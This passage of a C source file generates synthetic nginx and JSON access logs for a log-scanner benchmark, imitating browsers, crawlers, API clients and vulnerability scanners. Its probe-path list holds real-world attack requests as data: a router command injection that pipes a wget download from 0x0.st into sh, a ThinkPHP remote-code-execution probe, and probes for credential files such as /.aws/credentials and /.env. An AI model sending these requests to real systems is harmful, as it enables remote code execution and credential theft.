/* gen-log.c - deterministic generator of nginx "combined" access log lines,
 * or of the JSON lines an application behind that nginx would log.
 *
 * Usage: gen-log [-n LINES] [-s SEED] [--json]   (defaults: 1000000 lines, seed 1)
 *
 * Writes LINES lines to stdout in nginx's default "combined" format:
 *
 *   $remote_addr - $remote_user [$time_local] "$request" $status
 *   $body_bytes_sent "$http_referer" "$http_user_agent"
 *
 * The traffic is meant to look like a busy shop/blog site so that the benchmark
 * exercises the scanner the way real logs do: about 80% IPv4 and 20% IPv6
 * clients (IPv6 printed the way nginx prints it: RFC 5952 text, so compressed
 * and full 8-group forms both occur, plus a few IPv4-mapped "::ffff:a.b.c.d"),
 * browser sessions that fetch a page and then its assets with the page as
 * referrer, crawlers from their real address ranges, API clients, monitors
 * and vulnerability scanners. A few percent of lines come through a load
 * balancer and carry an extra X-Forwarded-For field, a few carry an IPv4
 * address in the URL or the referrer. Timestamps advance by 0-40 ms per line
 * (about 50 requests per second).
 *
 * The output depends only on LINES and SEED: the PRNG is our own splitmix64,
 * no floating point is used and no library routine whose result could differ
 * between platforms (rand(), gmtime(), locale) is called. Same arguments, same
 * bytes, on any machine and compiler - which is why no expression below
 * draws two random numbers where C leaves the order open (function
 * arguments, initialiser lists). A shorter run is a prefix of a longer one.
 *
 * With --json the same traffic is written as an application's JSON log
 * lines (see emit_json): one object per request with the request's fields,
 * a request id, a duration, and in some lines a logged-in user's e-mail
 * address and name, a session id, request headers with credentials, an
 * error with the client's address in its message, or the hops of a load
 * balancer in an array. Two services write them: one escapes '/' as "\/"
 * (PHP's json_encode), the other writes non-ASCII as "\u00e9" (Python's
 * json.dumps). The nginx output is the same with and without the option's
 * code: its random numbers are drawn only in JSON mode.
 *
 * Speed matters (the benchmark should not wait for its input): lines are built
 * straight into a 1 MiB buffer that is written with fwrite when nearly full.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "prng.h"

/* Index in [0, n) skewed towards small values (roughly 1/k), so a few
 * clients are busy and most are seen once or twice, as in real logs. */
static uint32_t rnd_skewed(uint32_t n)
{
    return rnd(1 + rnd(n));
}

/* ---- string builder over a caller-owned buffer ---------------------------
 * No bounds checks: every caller writes into a buffer known to have room for
 * the longest thing it can produce (see LINE_ROOM and the path buffers). */

struct sb {
    char *p;
    size_t n;
};

static void sb_mem(struct sb *b, const char *s, size_t n)
{
    memcpy(b->p + b->n, s, n);
    b->n += n;
}

static void sb_str(struct sb *b, const char *s)
{
    sb_mem(b, s, strlen(s));
}

static void sb_chr(struct sb *b, char c)
{
    b->p[b->n++] = c;
}

static void sb_uint(struct sb *b, uint64_t v)
{
    char t[20];
    size_t i = sizeof t;
    do {
        t[--i] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    sb_mem(b, t + i, sizeof t - i);
}

/* Two digits with a leading zero (timestamps). */
static void sb_2d(struct sb *b, unsigned v)
{
    sb_chr(b, (char)('0' + v / 10 % 10));
    sb_chr(b, (char)('0' + v % 10));
}

static const char hexdig[] = "0123456789abcdef";

/* Lower-case hex without leading zeros ("0" for zero), as in IPv6 text. */
static void sb_hex(struct sb *b, unsigned v)
{
    char t[8];
    size_t i = sizeof t;
    do {
        t[--i] = hexdig[v & 15];
        v >>= 4;
    } while (v);
    sb_mem(b, t + i, sizeof t - i);
}

/* Exactly `digits` lower-case hex digits of random value (asset hashes). */
static void sb_randhex(struct sb *b, int digits)
{
    uint64_t v = rng_next();
    for (int i = 0; i < digits; i++, v >>= 4)
        sb_chr(b, hexdig[v & 15]);
}

static void sb_alnum(struct sb *b, int len)
{
    static const char an[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    for (int i = 0; i < len; i++)
        sb_chr(b, an[rnd(sizeof an - 1)]);
}

/* ---- addresses ------------------------------------------------------------ */

static void sb_ipv4(struct sb *b, unsigned a, unsigned c2, unsigned c3, unsigned d)
{
    sb_uint(b, a);
    sb_chr(b, '.');
    sb_uint(b, c2);
    sb_chr(b, '.');
    sb_uint(b, c3);
    sb_chr(b, '.');
    sb_uint(b, d);
}

/* A public unicast IPv4 client address: no private, loopback, CGNAT,
 * link-local, documentation or multicast ranges, and never .0 or .255 as the
 * last octet (so that truncating to /24 always changes it; the benchmark's
 * leak check relies on that). */
static void sb_public_ipv4(struct sb *b)
{
    unsigned a, c2;
    for (;;) {
        a = 1 + rnd(223);
        c2 = rnd(256);
        if (a == 10 || a == 127 || a == 0)
            continue;
        if (a == 100 && c2 >= 64 && c2 < 128)
            continue;
        if ((a == 169 && c2 == 254) || (a == 172 && c2 >= 16 && c2 < 32) ||
            (a == 192 && c2 == 168) || (a == 192 && c2 == 0) ||
            (a == 198 && (c2 == 18 || c2 == 19 || c2 == 51)) || (a == 203 && c2 == 0))
            continue;
        break;
    }
    unsigned c3 = rnd(256);
    sb_ipv4(b, a, c2, c3, 1 + rnd(254));
}

/* RFC 5952 text of eight 16-bit groups, as nginx prints $remote_addr:
 * lower case, no leading zeros, the longest run of two or more zero groups
 * (the first one on a tie) replaced by "::". */
static void sb_ipv6(struct sb *b, const uint16_t g[8])
{
    int best = -1, bestlen = 1;
    for (int i = 0; i < 8;) {
        if (g[i] != 0) {
            i++;
            continue;
        }
        int j = i;
        while (j < 8 && g[j] == 0)
            j++;
        if (j - i > bestlen) {
            best = i;
            bestlen = j - i;
        }
        i = j;
    }
    int sep = 0;
    for (int i = 0; i < 8; i++) {
        if (i == best) {
            sb_mem(b, "::", 2);
            i += bestlen - 1;
            sep = 0;
            continue;
        }
        if (sep)
            sb_chr(b, ':');
        sb_hex(b, g[i]);
        sep = 1;
    }
}

/* Real-looking IPv6 access networks: the first two groups of well-known
 * ISP/hoster/mobile allocations. */
static const uint16_t v6_nets[][2] = {
    {0x2a02, 0x8108}, {0x2a02, 0x8109}, {0x2003, 0x00e5}, {0x2003, 0x00c7}, {0x2003, 0x00f2},
    {0x2a01, 0x0598}, {0x2a01, 0x0c22}, {0x2001, 0x16b8}, {0x2a00, 0x0020}, {0x2a02, 0x0810},
    {0x2a01, 0x0e0a}, {0x2a01, 0x0cb1}, {0x2a02, 0x2f0e}, {0x2600, 0x1700}, {0x2601, 0x0647},
    {0x2603, 0x7000}, {0x2607, 0xfb90}, {0x2a01, 0x04f8}, {0x2a01, 0x04ff}, {0x2a03, 0xb0c0},
    {0x2001, 0x0bc8}, {0x2406, 0xda18}, {0x2409, 0x8a28}, {0x240e, 0x0390}, {0x2402, 0x3a80},
    {0x2800, 0x0810}, {0x2804, 0x14c}, {0x2c0f, 0xf4c0}, {0x2a0d, 0x5600}, {0x2001, 0x0470},
};

/* A client IPv6 address. Interface-ID styles, all seen in real logs:
 * temporary/privacy addresses (random 64 bits, usually all 8 groups),
 * EUI-64 (…:xxff:fexx:xxxx), small server-style IDs (::1, ::2c), and IDs
 * with zero groups in the middle. The bits after /48 are never all zero. */
static void sb_client_ipv6(struct sb *b)
{
    uint16_t g[8];
    const uint16_t *net = v6_nets[rnd(COUNT(v6_nets))];
    g[0] = net[0];
    g[1] = net[1];
    g[2] = (uint16_t)rnd(65536);
    g[3] = chance(300) ? (uint16_t)rnd(256) : (uint16_t)rnd(65536);
    unsigned style = rnd(100);
    if (style < 55) { /* privacy address */
        for (int i = 4; i < 8; i++)
            g[i] = (uint16_t)rnd(65536);
    } else if (style < 70) { /* EUI-64 from a MAC */
        g[4] = (uint16_t)(rnd(65536) & 0xfcff);
        g[5] = (uint16_t)(rnd(256) << 8 | 0xff);
        g[6] = (uint16_t)(0xfe00 | rnd(256));
        g[7] = (uint16_t)rnd(65536);
    } else if (style < 88) { /* ::1, ::2c, ::a:1 - routers, servers, static */
        g[4] = g[5] = 0;
        g[6] = chance(300) ? (uint16_t)(1 + rnd(15)) : 0;
        g[7] = (uint16_t)(1 + rnd(chance(500) ? 16 : 4096));
    } else { /* zero groups in the middle: x:y:z:w:a::b or x:y:0:0:a:b:c:d */
        g[4] = (uint16_t)(1 + rnd(65535));
        g[5] = 0;
        g[6] = chance(500) ? 0 : (uint16_t)rnd(65536);
        g[7] = (uint16_t)(1 + rnd(65535));
        if (chance(300))
            g[2] = g[3] = 0;
    }
    sb_ipv6(b, g);
}

/* An IPv4 client seen through a dual-stack IPv6 socket: "::ffff:a.b.c.d". */
static void sb_mapped_ipv4(struct sb *b)
{
    sb_str(b, "::ffff:");
    sb_public_ipv4(b);
}

/* ---- user agents ------------------------------------------------------- */

static const char *const ua_browser[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 356.0.0.26.85 (iPhone15,3; iOS 18_1; de_DE; de; scale=3.00; 1290x2796; 654321987)",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.107 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/489.0.0.59.79;]",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 YaBrowser/24.10.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Vivaldi/7.0.3495.18",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
};

/* Weights for ua_browser (Chrome-heavy, like real traffic). */
static const uint8_t ua_browser_w[COUNT(ua_browser)] = {
    30, 8, 10, 6, 2, 2, 8, 6, 2, 3, 2, 1, 16, 5, 3, 3, 14, 5, 2, 3, 3, 1, 1, 1,
};

static const char *const ua_api[] = {
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
    "ExampleShop/5.14.2 (com.example.shop; build:5142; iOS 18.1.1) Alamofire/5.9.1",
    "ExampleShop/5.14.2 (Android 14; Pixel 8; okhttp)",
    "axios/1.7.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/17.0.13",
    "PostmanRuntime/7.42.0",
};

static const char *const ua_scanner[] = {
    "curl/8.11.0",
    "curl/7.88.1",
    "Wget/1.21.3",
    "python-requests/2.28.1",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (l9scan/2.0.3; +https://leakix.net)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "-",
};

static const char *const ua_monitor[] = {
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "kube-probe/1.31",
    "Blackbox Exporter/0.25.0",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "ELB-HealthChecker/2.0",
};

/* Crawlers with the networks they really crawl from. v4: the first two
 * octets, a base and span for the third; v6: the first three groups (0 = the
 * crawler is not seen over IPv6 here). */
struct bot {
    const char *ua;
    uint8_t a, b, c, cspan;
    uint16_t v6[3];
    uint8_t weight;
};

static const struct bot bots[] = {
    {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 66, 249, 64, 16, {0x2001, 0x4860, 0x4801}, 20},
    {"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 66, 249, 64, 16, {0x2001, 0x4860, 0x4801}, 20},
    {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", 40, 77, 167, 1, {0x2a01, 0x0111, 0xf403}, 12},
    {"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 5, 255, 253, 1, {0x2a02, 0x06b8, 0xc0e}, 5},
    {"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 54, 36, 148, 2, {0}, 8},
    {"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 185, 191, 171, 1, {0}, 6},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", 17, 241, 208, 16, {0}, 4},
    {"DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 20, 191, 45, 1, {0}, 2},
    {"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 173, 252, 107, 4, {0x2a03, 0x2880, 0xf800}, 5},
    {"Twitterbot/1.0", 199, 16, 157, 2, {0}, 2},
    {"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", 3, 91, 0, 255, {0}, 1},
    {"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", 20, 171, 207, 1, {0}, 5},
    {"Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", 114, 119, 128, 32, {0}, 3},
    {"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", 5, 9, 0, 255, {0}, 1},
    {"Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", 216, 244, 66, 1, {0}, 1},
    {"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", 47, 128, 0, 64, {0}, 2},
};

/* ---- request building blocks -------------------------------------------- */

static const char *const words[] = {
    "nginx", "logs", "privacy", "rotate", "backup", "linux", "server", "guide", "how", "to",
    "setup", "fast", "secure", "home", "winter", "jacket", "running", "shoes", "coffee",
    "grinder", "review", "best", "2026", "cheap", "garden", "tools", "kitchen", "knife",
    "camera", "lens", "travel", "bag", "wool", "socks", "desk", "lamp", "gdpr", "cookie",
    "consent", "update", "release", "notes", "black", "friday", "deals", "gift", "ideas",
    "size", "chart", "return", "policy", "shipping", "germany", "austria", "vegan", "recipe",
};

static const char *const categories[] = {
    "shoes", "jackets", "outdoor", "kitchen", "garden", "electronics", "books", "toys",
    "sale", "new-arrivals", "accessories", "home-office",
};

static const char *const static_pages[] = {
    "/", "/", "/", "/de/", "/en/", "/about", "/contact", "/impressum", "/datenschutz",
    "/faq", "/shipping", "/cart", "/account", "/account/orders", "/login", "/register",
    "/blog/", "/feed/", "/newsletter/confirm",
};

static const char *const probe_paths[] = {
    "/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F0x0.st%7Csh%60)",
    "/boaform/admin/formLogin", "/actuator/env", "/server-status", "/.aws/credentials",
    "/config.json", "/admin/.env", "/owa/auth/logon.aspx", "/remote/login?lang=en",
    "/HNAP1/", "/solr/admin/info/system?wt=json", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21",
    "/.DS_Store", "/backup.zip", "/wp-content/plugins/wp-file-manager/readme.txt",
    "/api/v1/pods", "/_ignition/execute-solution", "/geoserver/web/", "/favicon.ico",
    "/robots.txt", "/sitemap.xml", "/.well-known/security.txt", "/manager/html",
};

static const char *const ext_referrers[] = {
    "https://www.google.com/", "https://www.google.com/", "https://www.google.com/",
    "https://www.google.de/", "https://www.google.at/", "https://www.bing.com/",
    "https://duckduckgo.com/", "https://www.ecosia.org/", "https://search.brave.com/",
    "https://www.facebook.com/", "https://l.facebook.com/", "https://www.instagram.com/",
    "android-app://com.google.android.googlequicksearchbox/", "https://news.ycombinator.com/",
    "https://github.com/", "https://mail.google.com/", "https://outlook.live.com/",
    "https://yandex.ru/", "https://www.pinterest.de/", "https://www.youtube.com/",
};

#define SITE "https://www.example.org"

/* Asset file names with build hashes fixed at start-up. */
enum { N_ASSETS = 12 };
static char assets[N_ASSETS][64];
static size_t asset_len[N_ASSETS];
static const unsigned asset_size[N_ASSETS] = {
    48213, 312877, 96402, 15086, 1150, 48256, 2307, 845, 5430, 18744, 36121, 17542,
};

static void init_assets(void)
{
    static const char *const pat[N_ASSETS][2] = {
        {"/static/css/app.", ".css"},      {"/static/js/vendor.", ".js"},
        {"/static/js/main.", ".js"},       {"/static/js/runtime.", ".js"},
        {"/static/img/logo.", ".svg"},     {"/static/fonts/inter-var.", ".woff2"},
        {"/static/img/icons.", ".svg"},    {"/favicon.ico", NULL},
        {"/apple-touch-icon.png", NULL},   {"/static/js/consent.", ".js"},
        {"/static/css/print.", ".css"},    {"/static/js/analytics.", ".js"},
    };
    for (int i = 0; i < N_ASSETS; i++) {
        struct sb b = {assets[i], 0};
        sb_str(&b, pat[i][0]);
        if (pat[i][1]) {
            sb_randhex(&b, 8);
            sb_str(&b, pat[i][1]);
        }
        asset_len[i] = b.n;
    }
}

static void sb_slug(struct sb *b, int nwords)
{
    for (int i = 0; i < nwords; i++) {
        if (i)
            sb_chr(b, '-');
        sb_str(b, words[rnd(COUNT(words))]);
    }
}

static void sb_utm(struct sb *b, char sep)
{
    static const char *const src[] = {"newsletter", "facebook", "instagram", "google", "partner"};
    sb_chr(b, sep);
    sb_str(b, "utm_source=");
    sb_str(b, src[rnd(COUNT(src))]);
    sb_str(b, "&utm_medium=");
    sb_str(b, chance(500) ? "email" : "cpc");
    sb_str(b, "&utm_campaign=bf26_");
    sb_uint(b, 1 + rnd(12));
}

/* A page URL (what browsers and crawlers navigate to). */
static void sb_page(struct sb *b)
{
    unsigned k = rnd(100);
    if (k < 22) {
        sb_str(b, static_pages[rnd(COUNT(static_pages))]);
    } else if (k < 45) {
        sb_str(b, "/products/");
        sb_uint(b, 10000 + rnd(90000));
        sb_chr(b, '-');
        sb_slug(b, 2 + (int)rnd(3));
        if (chance(150))
            sb_utm(b, '?');
        else if (chance(150)) {
            sb_str(b, "?variant=");
            sb_uint(b, 100000 + rnd(900000));
        }
    } else if (k < 62) {
        sb_str(b, "/category/");
        sb_str(b, categories[rnd(COUNT(categories))]);
        if (chance(400)) {
            sb_str(b, "?page=");
            sb_uint(b, 2 + rnd(20));
            if (chance(400)) {
                sb_str(b, "&sort=");
                sb_str(b, chance(500) ? "price_asc" : "newest");
            }
        }
    } else if (k < 80) {
        sb_str(b, "/blog/2026/");
        sb_2d(b, 1 + rnd(11));
        sb_chr(b, '/');
        sb_slug(b, 3 + (int)rnd(4));
        sb_chr(b, '/');
        if (chance(100))
            sb_utm(b, '?');
    } else if (k < 92) {
        sb_str(b, "/search?q=");
        int n = 1 + (int)rnd(3);
        for (int i = 0; i < n; i++) {
            if (i)
                sb_chr(b, '+');
            sb_str(b, words[rnd(COUNT(words))]);
        }
        if (chance(300))
            sb_str(b, "&lang=de");
    } else {
        sb_str(b, "/checkout?step=");
        sb_uint(b, 1 + rnd(4));
    }
}

static void sb_api_path(struct sb *b, const char **method)
{
    unsigned k = rnd(100);
    *method = "GET";
    if (k < 30) {
        sb_str(b, "/api/v1/products/");
        sb_uint(b, 10000 + rnd(90000));
    } else if (k < 45) {
        sb_str(b, "/api/v1/cart/items");
        *method = chance(500) ? "POST" : "GET";
    } else if (k < 60) {
        sb_str(b, "/api/v2/events?since=");
        sb_uint(b, 1795300000 + rnd(100000));
        sb_str(b, "&limit=100");
    } else if (k < 72) {
        sb_str(b, "/graphql");
        *method = "POST";
    } else if (k < 80) {
        sb_str(b, "/api/v1/session/refresh");
        *method = "POST";
    } else if (k < 88) {
        sb_str(b, "/api/v1/orders?page=");
        sb_uint(b, 1 + rnd(5));
        sb_str(b, "&limit=50");
    } else if (k < 94) {
        sb_str(b, "/api/v1/users/");
        sb_uint(b, 1 + rnd(500000));
        *method = chance(300) ? "PATCH" : "GET";
    } else if (k < 97) {
        sb_str(b, "/api/v1/cart/items/");
        sb_uint(b, 1 + rnd(9999));
        *method = "DELETE";
    } else {
        sb_str(b, "/api/v1/products");
        *method = "OPTIONS";
    }
}

/* ---- time: CLF "[23/Nov/2026:13:55:36 +0000]" ----------------------------- */

/* Days since 1970-01-01 of a proleptic Gregorian date and back (Howard
 * Hinnant's algorithms; exact integer arithmetic, no gmtime()). */
static int64_t days_from_civil(int64_t y, unsigned m, unsigned d)
{
    y -= m <= 2;
    int64_t era = (y >= 0 ? y : y - 399) / 400;
    unsigned yoe = (unsigned)(y - era * 400);
    unsigned doy = (153 * (m > 2 ? m - 3 : m + 9) + 2) / 5 + d - 1;
    unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return era * 146097 + (int64_t)doe - 719468;
}

static void civil_from_days(int64_t z, int64_t *y, unsigned *m, unsigned *d)
{
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int64_t)yoe + era * 400 + (*m <= 2);
}

static char stamp[40];
static size_t stamp_len;
static int64_t stamp_sec = -1;

/* Format the CLF time stamp for Unix second `t` into `stamp` (cached: the
 * same second is formatted once). */
static void update_stamp(int64_t t)
{
    static const char mon[12][4] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                    "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    if (t == stamp_sec)
        return;
    stamp_sec = t;
    int64_t days = t / 86400, y;
    unsigned sod = (unsigned)(t % 86400), m, d;
    civil_from_days(days, &y, &m, &d);
    struct sb b = {stamp, 0};
    sb_chr(&b, '[');
    sb_2d(&b, d);
    sb_chr(&b, '/');
    sb_mem(&b, mon[m - 1], 3);
    sb_chr(&b, '/');
    sb_uint(&b, (uint64_t)y);
    sb_chr(&b, ':');
    sb_2d(&b, sod / 3600);
    sb_chr(&b, ':');
    sb_2d(&b, sod / 60 % 60);
    sb_chr(&b, ':');
    sb_2d(&b, sod % 60);
    sb_str(&b, " +0000]");
    stamp_len = b.n;
}

/* ---- clients and sessions ------------------------------------------------ */

enum ctype { C_BROWSER, C_BOT, C_API, C_SCANNER, C_MONITOR };

struct client {
    char addr[48];
    uint8_t alen;
    uint8_t ua;   /* index into the table of its type */
    uint8_t type; /* enum ctype */
};

enum { N_BROWSERS = 40000, N_APIS = 4000, N_SCANNERS = 600, N_MONITORS = 6 };
static struct client browsers[N_BROWSERS], apis[N_APIS], scanners[N_SCANNERS],
    monitors[N_MONITORS];

/* Load balancers in front of part of the site: their lines carry the client
 * in an extra X-Forwarded-For field (see emit_line). */
static const char *const lbs[] = {"10.0.1.11", "10.0.2.12", "172.16.0.5", "fd00:10:0:1::a"};

/* The site's own public address: shows up in URLs and referrers of clients
 * that talk to the IP directly. */
static char site_ip[20];

static void client_addr(struct client *c, int allow_v6)
{
    struct sb b = {c->addr, 0};
    unsigned k = rnd(1000);
    if (allow_v6 && k < 190)
        sb_client_ipv6(&b);
    else if (allow_v6 && k < 200)
        sb_mapped_ipv4(&b);
    else
        sb_public_ipv4(&b);
    c->alen = (uint8_t)b.n;
}

static uint8_t pick_weighted(const uint8_t *w, size_t n)
{
    unsigned total = 0;
    for (size_t i = 0; i < n; i++)
        total += w[i];
    unsigned r = rnd(total);
    for (size_t i = 0; i < n; i++) {
        if (r < w[i])
            return (uint8_t)i;
        r -= w[i];
    }
    return 0;
}

static void init_clients(void)
{
    for (int i = 0; i < N_BROWSERS; i++) {
        client_addr(&browsers[i], 1);
        browsers[i].type = C_BROWSER;
        browsers[i].ua = pick_weighted(ua_browser_w, COUNT(ua_browser));
    }
    for (int i = 0; i < N_APIS; i++) {
        client_addr(&apis[i], 1);
        apis[i].type = C_API;
        apis[i].ua = (uint8_t)rnd(COUNT(ua_api));
    }
    for (int i = 0; i < N_SCANNERS; i++) {
        client_addr(&scanners[i], 1);
        scanners[i].type = C_SCANNER;
        scanners[i].ua = (uint8_t)rnd(COUNT(ua_scanner));
    }
    for (int i = 0; i < N_MONITORS; i++) {
        struct client *c = &monitors[i];
        c->type = C_MONITOR;
        c->ua = (uint8_t)((size_t)i % COUNT(ua_monitor));
        if (c->ua == 1 || c->ua == 4) { /* kube-probe, ELB: from inside */
            struct sb b = {c->addr, 0};
            unsigned c3 = rnd(8);
            sb_ipv4(&b, 10, c->ua == 1 ? 244 : 0, c3, 2 + rnd(250));
            c->alen = (uint8_t)b.n;
        } else {
            client_addr(c, 0);
        }
    }
    struct sb b = {site_ip, 0};
    sb_public_ipv4(&b);
    site_ip[b.n] = '\0';
}

/* A visit in progress: some lines in a row from one client. Many sessions
 * are open at once and interleave, as on a real server. */
struct session {
    struct client c;    /* copy: bots get a fresh address per session */
    int left;           /* requests still to come */
    int seq;            /* requests made so far */
    int via_lb;         /* comes through a load balancer (X-Forwarded-For) */
    const char *lb;
    char page[320];     /* current page, the referrer of its assets */
    size_t page_len;
    char ref[160];      /* external referrer of the landing page */
    size_t ref_len;
};

enum { N_SESSIONS = 48 };
static struct session sessions[N_SESSIONS];

static uint8_t bot_w[COUNT(bots)];

static void new_session(struct session *s)
{
    unsigned k = rnd(100);
    memset(s, 0, sizeof *s);
    if (k < 66) {
        s->c = browsers[rnd_skewed(N_BROWSERS)];
        s->left = 1 + (int)rnd(30);
    } else if (k < 80) {
        uint8_t bi = pick_weighted(bot_w, COUNT(bots));
        const struct bot *bt = &bots[bi];
        struct sb b = {s->c.addr, 0};
        if (bt->v6[0] && chance(350)) {
            uint16_t g[8] = {bt->v6[0], bt->v6[1], bt->v6[2], 0, 0, 0, 0, 0};
            g[3] = (uint16_t)rnd(64);
            g[7] = (uint16_t)(1 + rnd(255));
